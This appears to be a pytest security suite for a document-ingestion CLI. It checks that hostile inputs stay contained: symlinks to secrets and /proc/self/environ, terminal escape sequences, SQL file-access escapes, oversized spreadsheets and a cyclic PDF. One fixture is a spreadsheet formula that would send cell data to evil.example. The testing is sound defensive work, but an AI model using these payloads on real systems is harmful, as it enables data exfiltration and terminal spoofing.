"""A data room and a client are untrusted, and the home holds secrets (issue 20).

Every test builds its own hostile input: a room of links, a sparse file, a markup-laden cell.
"""

from __future__ import annotations

import json
import os
import stat
from pathlib import Path

import pytest
from typer.testing import CliRunner

from infra.cli.main import app
from infra.cli.render.output import terminal_safe
from ingest.planner import SKIP_DEEP, SKIP_LINK, SKIP_SPECIAL, walk_sources

runner = CliRunner()
FAST = {"DOCLAKE_EVENT_FLUSH_S": "0.02", "DOCLAKE_POLL_INTERVAL_S": "0.2",
        "DOCLAKE_CPU_WORKERS": "1"}


def invoke(*args: str, env: dict[str, str] | None = None):
    return runner.invoke(app, list(args), env={**FAST, **(env or {})}, catch_exceptions=False)


def all_bytes_under(folder: Path) -> bytes:
    return b"".join(p.read_bytes() for p in folder.rglob("*") if p.is_file() and
                    not p.is_symlink())


@pytest.fixture
def umask_022():
    """Run as a careless machine would (umask 022), and restore the test process's umask."""
    previous = os.umask(0o022)
    yield
    os.umask(previous)


def test_a_room_of_links_copies_nothing_from_outside(tmp_path, pdf_factory, umask_022):
    secret = tmp_path / "outside" / "secret.csv"
    secret.parent.mkdir()
    secret.write_text("name,value\nOUTSIDE-SECRET-7731,1\n")
    room = tmp_path / "docs"
    pdf_factory("ok.pdf", 1, word="inside")
    (room / "link.csv").symlink_to(secret)
    (room / "environ.txt").symlink_to("/proc/self/environ")
    (room / "linked-folder").symlink_to(secret.parent, target_is_directory=True)
    os.mkfifo(room / "pipe.csv")
    home = tmp_path / "home"
    result = invoke("run", str(room), "--home", str(home), "--fields", "none")
    assert result.exit_code == 0, result.output
    assert "documents 1" in result.output
    assert "skipped 4" in result.output and "symbolic link, not followed" in result.output
    assert b"OUTSIDE-SECRET-7731" not in all_bytes_under(home)
    listed = json.loads(invoke("sql", "SELECT source_path FROM documents", "--home", str(home),
                               "--format", "json").output)
    assert [row["source_path"] for row in listed] == ["ok.pdf"]


def test_the_walk_says_what_it_skipped_and_survives_a_deep_nest(tmp_path):
    room = tmp_path / "room"
    room.mkdir()
    deep = str(room)
    for _ in range(1200):  # a RecursionError for a recursive walk
        deep += "/d"
        os.mkdir(deep)
    Path(deep, "bottom.txt").write_text("deep")
    (room / "top.txt").write_text("top")
    (room / "to-top").symlink_to(room / "top.txt")
    os.mkfifo(room / "fifo")
    try:
        walk = walk_sources([room], max_depth=64)
    finally:  # pytest's own cleanup recurses and would fail on 1,200 levels
        Path(deep, "bottom.txt").unlink()
        while deep != str(room):
            os.rmdir(deep)
            deep = os.path.dirname(deep)
    assert [name for _, name in walk.files] == ["top.txt"]
    reasons = sorted(reason for _, reason in walk.skipped)
    assert reasons == sorted([SKIP_DEEP, SKIP_LINK, SKIP_SPECIAL])
    assert "skipped 3" in walk.skipped_summary()


def test_a_file_swapped_for_a_link_after_the_walk_is_not_followed(tmp_path, settings):
    from infra.local.runtime import LocalRuntime

    secret = tmp_path / "secret.txt"
    secret.write_text("SWAPPED-SECRET-4410")
    room = tmp_path / "room"
    room.mkdir()
    (room / "a.txt").write_text("harmless")
    files = [p for p, _ in walk_sources([room]).files]
    (room / "a.txt").unlink()
    (room / "a.txt").symlink_to(secret)  # between the walk and the copy
    runtime = LocalRuntime(settings)
    planner = runtime.planner()
    assert planner.ingest_many(files) == []
    assert [reason for _, reason in planner.skipped] == ["a symbolic link"]
    assert b"SWAPPED-SECRET-4410" not in all_bytes_under(settings.home)


def test_a_sparse_file_over_the_limit_is_never_copied_whole_and_leaves_nothing(tmp_path):
    room = tmp_path / "room"
    room.mkdir()
    sparse = room / "huge.pdf"
    with open(sparse, "wb") as handle:
        handle.write(b"%PDF-1.7\n")
        handle.truncate(2 * 1024**3)  # 2 GB apparent, a few kB on disk
    home = tmp_path / "home"
    limit = 1024 * 1024
    result = invoke("run", str(room), "--home", str(home), "--fields", "none",
                    env={"DOCLAKE_MAX_FILE_BYTES": str(limit)})
    assert result.exit_code == 0, result.output
    assert "file_too_large" in result.output
    uploads = [p for p in (home / "objects" / "uploads").rglob("*") if p.is_file()]
    assert uploads == []  # the bounded part stored for the check is removed with the failure
    failures = json.loads(invoke("sql", "SELECT message FROM failures", "--home",
                                 str(home), "--format", "json").output)
    assert str(2 * 1024**3) in failures[0]["message"]


def test_the_home_is_private_whatever_the_umask(tmp_path, pdf_factory, umask_022):
    source = pdf_factory("private.pdf", 1)
    os.chmod(source, 0o600)
    home = tmp_path / "home"
    result = invoke("run", str(source.parent), "--home", str(home), "--fields", "none")
    assert result.exit_code == 0, result.output
    open_to_others = [str(p) for p in [home, *home.rglob("*")]
                      if not p.is_symlink() and _mode(p) & 0o077]
    assert open_to_others == []


def _mode(path: Path) -> int:
    """The permission bits, 0 for a file gone since the listing (a SQLite ``-wal`` file is
    removed when a database's last connection closes, which may be a collected one)."""
    try:
        return stat.S_IMODE(path.lstat().st_mode)
    except FileNotFoundError:
        return 0


def test_an_old_open_home_is_tightened(tmp_path, umask_022):
    from infra.local.private_home import make_private

    home = tmp_path / "home"
    (home / "objects").mkdir(parents=True)
    (home / "jobs.db").write_text("x")
    make_private(home)
    modes = {p.name: stat.S_IMODE(p.stat().st_mode) for p in [home, *home.rglob("*")]}
    assert modes == {"home": 0o700, "objects": 0o700, "jobs.db": 0o600}


@pytest.mark.parametrize("value, shown", [
    ("[/bold]", "[/bold]"),
    ("\x1b[2J\x1b]0;owned\x07", "\\x1b[2J\\x1b]0;owned\\x07"),
    ("a\nb", "a\\nb"),
    ("evil\u202etxt.exe", "evil\\u202etxt.exe"),
])
def test_terminal_values_show_themselves(value, shown):
    from rich.console import Console

    console = Console(record=True, width=200, color_system=None)
    console.print(terminal_safe(value))
    assert console.export_text().rstrip("\n") == shown


def test_a_markup_laden_cell_prints_as_text_in_a_table(tmp_path):
    home = tmp_path / "home"
    room = tmp_path / "room"
    room.mkdir()
    (room / "cells.csv").write_text("a,b\n[/bold],[link=http://evil.example]click[/link]\n"
                                    "\x1b]0;title\x07,x\n")
    assert invoke("run", str(room), "--home", str(home), "--fields", "none").exit_code == 0
    from infra.cli.render import output

    original = output.resolve_format
    output.resolve_format = lambda value, allowed=output.FORMATS: "table"
    try:
        result = runner.invoke(app, ["search", "bold", "--home", str(home), "--format", "table"],
                               env=FAST, catch_exceptions=False)
    finally:
        output.resolve_format = original
    assert result.exit_code == 0, result.output
    assert "\x1b" not in result.output
    result = invoke("sql", "SELECT '[/bold]' || chr(27) || '[2J' AS v", "--home", str(home),
                    "--format", "table")
    assert result.exit_code == 0, result.output
    assert "[/bold]\\x1b[2J" in result.output


# --- conversion: a document must not pull in local files ------------------------------------


def linked_odt(folder: Path, image: Path) -> Path:
    """An .odt whose only image is a link to ``image`` (``file:///...``), not embedded."""
    import zipfile

    content = (
        '<?xml version="1.0" encoding="UTF-8"?>\n<office:document-content '
        'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
        'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" '
        'xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0" '
        'xmlns:xlink="http://www.w3.org/1999/xlink" '
        'xmlns:svg="urn:oasis:names:tc:opendocument:xmlns:svg-compatible:1.0" office:version="1.2">'
        '<office:body><office:text><text:p>A memo that links a picture'
        '<draw:frame draw:name="i1" text:anchor-type="as-char" svg:width="4in" svg:height="1in">'
        f'<draw:image xlink:href="{image.as_uri()}" xlink:type="simple" xlink:show="embed" '
        'xlink:actuate="onLoad"/></draw:frame></text:p></office:text></office:body>'
        '</office:document-content>')
    manifest = (
        '<?xml version="1.0" encoding="UTF-8"?>\n<manifest:manifest xmlns:manifest='
        '"urn:oasis:names:tc:opendocument:xmlns:manifest:1.0" manifest:version="1.2">'
        '<manifest:file-entry manifest:full-path="/" '
        'manifest:media-type="application/vnd.oasis.opendocument.text"/>'
        '<manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/>'
        '</manifest:manifest>')
    path = folder / "memo.odt"
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr(zipfile.ZipInfo("mimetype"), "application/vnd.oasis.opendocument.text")
        archive.writestr("META-INF/manifest.xml", manifest, zipfile.ZIP_DEFLATED)
        archive.writestr("content.xml", content, zipfile.ZIP_DEFLATED)
    return path


def private_image(folder: Path) -> Path:
    from PIL import Image, ImageDraw

    image = Image.new("RGB", (600, 120), "white")
    ImageDraw.Draw(image).text((10, 50), "PRIVATE 5521", fill="black")
    path = folder / "private.png"
    image.save(path)
    return path


def converted_has_image(odt: Path) -> bool:
    import asyncio

    from extract.formats.office import ConvertLimits, convert_to_pdf
    from extract.formats.sniff import Format

    async def convert() -> bytes:
        async with convert_to_pdf(odt, Format.ODT, ConvertLimits(timeout_s=180)) as done:
            return done.pdf.read_bytes()

    return b"/Image" in asyncio.run(convert())


def _soffice():
    from extract.formats.office import find_soffice

    return find_soffice()


needs_soffice = pytest.mark.skipif(_soffice() is None, reason="LibreOffice is not installed")


@pytest.fixture
def fresh_profile(monkeypatch):
    """A template profile made for this test, from the settings as the test leaves them."""
    from extract.formats import office

    monkeypatch.setattr(office, "_template", None)
    return office


@needs_soffice
def test_the_sandbox_hides_a_linked_local_file_from_the_converter(tmp_path, fresh_profile,
                                                                  monkeypatch):
    from extract.formats.sandbox import find_bwrap

    if find_bwrap() is None:
        pytest.skip("bwrap is not installed or cannot make namespaces here")
    # The sandbox alone: the profile's link blocking taken out.
    monkeypatch.setattr(fresh_profile, "_SETTINGS", tuple(
        s for s in fresh_profile._SETTINGS if s[1] != "BlockUntrustedRefererLinks"))
    outside = tmp_path / "outside"
    outside.mkdir()
    assert not converted_has_image(linked_odt(tmp_path, private_image(outside)))


@needs_soffice
def test_link_blocking_keeps_a_linked_local_file_out_without_bwrap(tmp_path, fresh_profile,
                                                                   monkeypatch, caplog):
    from extract.formats import sandbox

    monkeypatch.setattr(sandbox, "find_bwrap", lambda: None)
    monkeypatch.setattr(fresh_profile, "find_bwrap", lambda: None)
    monkeypatch.setattr(sandbox, "_warned", False)
    outside = tmp_path / "outside"
    outside.mkdir()
    with caplog.at_level("WARNING", logger="extract.formats.sandbox"):
        assert not converted_has_image(linked_odt(tmp_path, private_image(outside)))
    assert "bubblewrap (bwrap) is not available" in caplog.text


# --- SQL over the lake reads the lake only --------------------------------------------------


def test_lake_queries_read_the_lake_and_nothing_else(tmp_path, pdf_factory):
    import duckdb

    from lake.catalog import connect, query

    home = tmp_path / "home"
    pdf_factory("a.pdf", 1)
    assert invoke("run", str(tmp_path / "docs"), "--home", str(home),
                  "--fields", "none").exit_code == 0
    lake = str(home / "lake")
    assert query(lake, "SELECT count(*) AS n FROM documents").to_pylist() == [{"n": 1}]
    outside = tmp_path / "outside.csv"
    outside.write_text("secret\nOUTSIDE\n")
    written = tmp_path / "written.csv"
    with connect(lake) as session:
        for statement in (f"SELECT * FROM read_csv('{outside}')",
                          f"COPY (SELECT 1) TO '{written}'",
                          f"ATTACH '{tmp_path / 'other.duckdb'}'",
                          "SET enable_external_access = true",
                          "SET autoinstall_known_extensions = true"):
            with pytest.raises(duckdb.Error):
                session.table(statement)
    assert not written.exists()
    result = invoke("sql", f"SELECT * FROM read_csv('{outside}')", "--home", str(home),
                    "--format", "json")
    assert result.exit_code != 0 and "OUTSIDE" not in result.output


# --- hostile sheets -------------------------------------------------------------------------


def far_apart_workbook(path: Path) -> Path:
    """Two cells, at A1 and XFD1048576: a few kB that calamine would make 17 billion cells."""
    import openpyxl

    book = openpyxl.Workbook()
    sheet = book.active
    sheet["A1"] = "top left"
    sheet["XFD1048576"] = "bottom right"
    book.save(path)
    return path


def test_a_sheet_spanning_the_whole_grid_is_refused_before_it_is_loaded(tmp_path):
    room = tmp_path / "room"
    room.mkdir()
    far_apart_workbook(room / "far.xlsx")
    home = tmp_path / "home"
    result = invoke("run", str(room), "--home", str(home), "--fields", "none")
    assert result.exit_code == 0, result.output
    assert "too_many_cells" in result.output
    failures = json.loads(invoke("sql", "SELECT failure_reason AS error_type, message "
                                 "FROM failures", "--home", str(home), "--format", "json").output)
    assert [f["error_type"] for f in failures] == ["too_many_cells"]
    assert "1048576 x 16384" in failures[0]["message"]


def test_bytes_that_crash_the_parser_on_every_delivery_fail_for_good(tmp_path, monkeypatch):
    from support import cpu_tasks

    from extract.handlers import split

    # The real pool runs a parser that kills its process, as a native abort on certain bytes.
    monkeypatch.setattr(split, "read_csv", cpu_tasks.crash_parsing)
    room = tmp_path / "room"
    room.mkdir()
    (room / "crash.csv").write_text("a,b\n1,2\n")
    home = str(tmp_path / "home")
    env = {"DOCLAKE_MAX_RECEIVES": "2"}
    result = invoke("run", str(room), "--home", home, "--fields", "none", env=env)
    assert result.exit_code == 0, result.output
    assert "crashes_parser" in result.output
    again = invoke("run", str(room), "--home", home, "--fields", "none", env=env)
    # Not taken again: unchanged, still failed, nothing read.
    assert "unchanged 1" in again.output and "failed 1" in again.output, again.output
    assert "(0 read by this run)" in again.output, again.output


# --- a spreadsheet opening the evals sheet runs nothing -------------------------------------


def test_the_labelling_sheet_neutralises_formulas_and_imports_back_unchanged(tmp_path):
    import csv

    from evals.labels import parse_csv
    from evals.sample import write_sheet

    name = '=HYPERLINK("http://evil.example/?x="&A1,"open")'
    picked = [{"document_id": "d1", "sha256": "ab", "source_name": name, "model_version": "v1",
               "strategy": "rules", "values": {"party": [("@SUM(1+1)", 1), ("-2 years", 2)],
                                               "term": [("Acme", 1)]}}]
    sheet = tmp_path / "sheet.csv"
    write_sheet(sheet, picked, ["party", "term"])
    with sheet.open(newline="", encoding="utf-8") as handle:
        cells = [cell for row in csv.reader(handle) for cell in row]
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@")]
    assert "'" + name in cells
    (label,) = parse_csv(sheet)
    assert dict(label.values) == {"party": ("@SUM(1+1)", "-2 years"), "term": ("Acme",)}


# --- passwords ------------------------------------------------------------------------------


def test_a_password_left_by_a_crashed_run_is_erased_on_the_next_start(tmp_path, settings):
    from datetime import UTC, datetime

    from extract.ports import NewVersion
    from infra.local.jobstore import SqliteJobStore
    from infra.local.runtime import LocalRuntime

    secret = "left-behind-7zq"
    settings.home.mkdir(parents=True)
    store = SqliteJobStore(settings.home / "jobs.db")
    store.create_job(NewVersion(
        document_id="d", job_id="j", source_name="a.pdf", source_key="k", sha256="s",
        bytes=1, version=1, object_key="uploads/d/j", created_at=datetime.now(UTC)))
    assert store.set_job_password("j", secret)
    store.close()  # the run is killed here: its job is still queued, its password stored
    runtime = LocalRuntime(settings)
    assert runtime.recover()["erased_passwords"] == 1
    assert runtime.store.job_password("j") is None
    runtime.store.close()
    stored = b"".join(p.read_bytes() for p in settings.home.glob("jobs.db*"))
    assert secret.encode() not in stored


def test_the_password_can_be_asked_for_instead_of_typed_on_the_command_line(tmp_path):
    from conftest import CORPUS

    sample = CORPUS / "pdf_encrypted" / "libreoffice_user_pw_openpassword.pdf"
    if not sample.is_file():
        pytest.skip("shared corpus not found")
    home = str(tmp_path / "home")
    result = runner.invoke(app, ["run", str(sample), "--home", home, "--fields", "none",
                                 "--ask-password"], input="openpassword\n", env=FAST,
                           catch_exceptions=False)
    assert result.exit_code == 0, result.output
    assert "succeeded 1" in result.output and "openpassword" not in result.output


# --- done when: a hostile room leaves nothing of the outside in a private home ----------------


@needs_soffice
def test_a_hostile_room_leaves_nothing_from_outside_in_a_private_home(tmp_path, pdf_factory,
                                                                     umask_022):
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "secret.csv").write_text("name,value\nOUTSIDE-SECRET-9902,1\n")
    image = private_image(outside)
    room = tmp_path / "docs"
    pdf_factory("contract.pdf", 1, word="inside")
    (room / "link.csv").symlink_to(outside / "secret.csv")
    (room / "environ.txt").symlink_to("/proc/self/environ")
    (room / "sub").mkdir()
    (room / "sub" / "images").symlink_to(outside, target_is_directory=True)
    linked_odt(room, image)
    home = tmp_path / "home"
    result = invoke("run", str(room), "--home", str(home), "--fields", "none",
                    env={"DOCLAKE_CONVERT_TIMEOUT_S": "180"})
    assert result.exit_code == 0, result.output
    # The PDF is read; the memo linking a picture outside is refused before conversion.
    assert "succeeded 1" in result.output and "links_outside  1  memo.odt" in result.output, \
        result.output
    everything = all_bytes_under(home)
    assert b"OUTSIDE-SECRET-9902" not in everything
    assert image.read_bytes() not in everything
    converted = [p for p in (home / "objects").rglob("*") if p.is_file() and
                 p.read_bytes().startswith(b"%PDF") and "uploads" not in p.parts]
    assert not any(b"/Image" in p.read_bytes() for p in converted)
    found = json.loads(invoke("search", "PRIVATE", "--home", str(home), "--format", "json").stdout)
    assert found == []
    open_to_others = [str(p) for p in [home, *home.rglob("*")]
                      if not p.is_symlink() and _mode(p) & 0o077]
    assert open_to_others == []


def page_tree_cycle_pdf(path: Path) -> Path:
    """A PDF whose page tree points back at its root: one page counted, none loadable."""
    objects = [b"<< /Type /Catalog /Pages 2 0 R >>",
               b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
               b"<< /Type /Pages /Kids [2 0 R 4 0 R] /Count 1 /Parent 2 0 R >>",
               b"<< /Type /Page /Parent 3 0 R /MediaBox [0 0 612 792] >>"]
    data, offsets = b"%PDF-1.4\n", []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(data))
        data += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    xref = len(data)
    data += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    data += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    data += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1, xref)
    path.write_bytes(data)
    return path


def test_a_page_tree_with_a_cycle_is_corrupt_not_a_crash(tmp_path):
    room = tmp_path / "room"
    room.mkdir()
    page_tree_cycle_pdf(room / "cycle.pdf")
    home = str(tmp_path / "home")
    result = invoke("run", str(room), "--home", home, "--fields", "none")
    assert result.exit_code == 0, result.output
    jobs = json.loads(invoke("sql", "SELECT failure_reason FROM jobs", "--home", home,
                             "--format", "json").output)
    assert jobs == [{"failure_reason": "corrupt"}]


@needs_soffice
def test_a_decrypted_copy_is_removed_when_its_job_ends(tmp_path):
    from conftest import CORPUS

    sample = CORPUS / "encrypted_office" / "poi_Password_Protected-hello.ppt"
    if not sample.is_file():
        pytest.skip("shared corpus not found")
    home = tmp_path / "home"
    # The password from the environment (DOCLAKE_PASSWORD), as the README says.
    result = invoke("run", str(sample), "--home", str(home), "--fields", "none",
                    env={"DOCLAKE_PASSWORD": "hello"})
    assert result.exit_code == 0, result.output
    jobs = json.loads(invoke("sql", "SELECT status, failure_reason FROM jobs", "--home",
                             str(home), "--format", "json").output)
    assert jobs[0]["failure_reason"] != "encrypted"  # it was decrypted (LibreOffice 7.4 then
    # refuses the .ppt: a known gap), and the plaintext copy went with the job's end
    assert [p for p in (home / "objects").rglob("*") if "decrypted" in p.parts and
            p.is_file()] == []


def test_parser_processes_run_under_file_size_and_core_limits():
    import asyncio
    import resource

    from support import cpu_tasks

    from infra.local.cpu import MAX_WORKER_FILE_BYTES, ProcessPoolRunner

    runner_pool = ProcessPoolRunner(1)
    try:
        limits = asyncio.run(runner_pool.run(cpu_tasks.resource_limits, timeout_s=60))
    finally:
        runner_pool.close()
    assert limits[resource.RLIMIT_CORE][0] == 0
    assert 0 < limits[resource.RLIMIT_FSIZE][0] <= MAX_WORKER_FILE_BYTES
